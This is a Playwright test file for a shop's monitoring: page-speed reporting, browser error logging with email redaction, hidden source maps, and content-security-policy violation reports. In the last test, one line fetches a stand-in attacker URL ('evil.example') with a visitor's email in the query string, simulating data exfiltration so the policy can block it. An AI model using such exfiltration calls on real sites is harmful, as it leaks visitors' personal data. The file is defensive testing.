import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import type { KeptMap } from '#lib/server/source-maps.ts';
import { tempFolder } from '#tests/support/temp-folder.ts';
import { type RunningShop, startShop } from './support/shop.ts';

// All tests share one shop: otherwise each worker would start its own.
test.describe.configure({ mode: 'default' });
let shop: RunningShop;
let folder: string;
test.beforeAll(async () => {
  folder = tempFolder('reports');
  shop = await startShop({ DATA_DIR: folder, VITALS_PERCENT: '100', LOG_LEVEL: 'warn' });
});
test.afterAll(async () => {
  await shop.stop();
});

/** The output of a report command about a week of this shop. */
const report = (script: string) =>
  execFileSync('node', ['--conditions=react-server', `scripts/${script}.ts`, '--days', '7'], {
    env: { ...process.env, DATA_DIR: folder },
    encoding: 'utf8',
  });
const alive = (page: Page) => expect(page.locator('[data-site-header]')).toHaveAttribute('data-ready', '');

test('P-1 U-7 page speed is counted when the visitor leaves the page, and the report shows it', async ({
  page,
}) => {
  await page.goto(`${shop.origin}/au/products`);
  await alive(page);
  await page.waitForLoadState('networkidle');
  await page.goto(`${shop.origin}/au`);
  await expect
    .poll(() => report('vitals-report'))
    .toMatch(/\| list \| LCP \| 1 \|[\s\S]*\| list \| FCP \| 1 \|[\s\S]*\| list \| TTFB \| 1 \|/);
});

test('S8 an error in the browser reaches the server, once', async ({ page }) => {
  const told: unknown[] = [];
  page.on('request', (request) => {
    if (request.url().endsWith('/api/client-errors')) told.push(request.postDataJSON());
  });
  await page.goto(`${shop.origin}/nz/products?type=CPT`);
  await alive(page);
  const answered = page.waitForResponse(/\/api\/client-errors/);
  await page.evaluate(() => {
    for (let time = 0; time < 3; time += 1)
      void Promise.reject(new TypeError('No floor for ada@example.com'));
  });
  expect((await answered).status()).toBe(204);
  expect(told).toEqual([
    { code: 'rejection', message: 'TypeError: No floor for …', at: expect.any(String), page: '/nz/products' },
  ]);
});

/**
 * Whether a script is built from our own sources, according to its source map; others are the framework's or the
 * bundler's.
 */
function isOurs(script: string): boolean {
  if (!/^\/_next\/static\/chunks\/[^/]+\.js$/.test(script)) return false;
  const map = `${script.replace('/_next', '.next/maps')}.map`;
  if (!existsSync(map)) return false;
  const { sources, mappings } = JSON.parse(readFileSync(map, 'utf8')) as KeptMap;
  const isSource = (source: string) => /^(?:app|components|features|lib|store)\/[^ ]+\.tsx?$/.test(source);
  return mappings.length > 1000 && sources.every(isSource);
}

test('S8 an error in one of our scripts is logged with its source, and the source map is not public', async ({
  page,
  request,
}) => {
  const scripts: string[] = [];
  page.on('response', (one) => void scripts.push(new URL(one.url()).pathname));
  await page.goto(`${shop.origin}/nz/products?type=CPT`);
  await expect.poll(() => scripts.filter(isOurs).length).toBeGreaterThan(0);
  const pathname = scripts.find(isOurs) ?? '';
  const text = await (await request.get(shop.origin + pathname)).text();
  expect(text).not.toContain('sourceMappingURL');
  const line = text.split('\n').findIndex((each) => each.length > 1000) + 1;
  const answer = await request.post(`${shop.origin}/api/client-errors`, {
    data: { code: 'uncaught', message: 'TypeError: mapped', at: `${pathname}:${line}:900`, page: '/nz' },
    headers: { Origin: shop.origin },
  });
  expect(answer.status()).toBe(204);
  await expect.poll(() => shop.printed()).toMatch(/"source":"[\w@./-]+\.[a-z]+:\d+:\d+".*TypeError: mapped/);
  for (const address of [
    `${pathname}.map`,
    `/maps${pathname.replace('/_next', '')}.map`,
    '/_next/maps/static/a.map',
  ])
    expect((await request.get(shop.origin + address)).status(), address).toBe(404);
});

test('policy violations are counted without visitor data, and the command shows them', async ({ page }) => {
  await page.goto(`${shop.origin}/nz/products?type=CPT`, { waitUntil: 'domcontentloaded' });
  const answered = page.waitForResponse(/\/api\/csp-reports$/);
  await page.evaluate(() =>
    fetch('https://evil.example/pixel.png?visitor=ada@example.com').catch(() => undefined),
  );
  expect((await answered).status()).toBe(204);
  await expect
    .poll(() => report('csp-report'))
    .toMatch(/^\| connect-src \| https:\/\/evil\.example \| list \| 1 \|/m);
  expect(report('csp-report')).not.toMatch(/ada|visitor|CPT/);
});
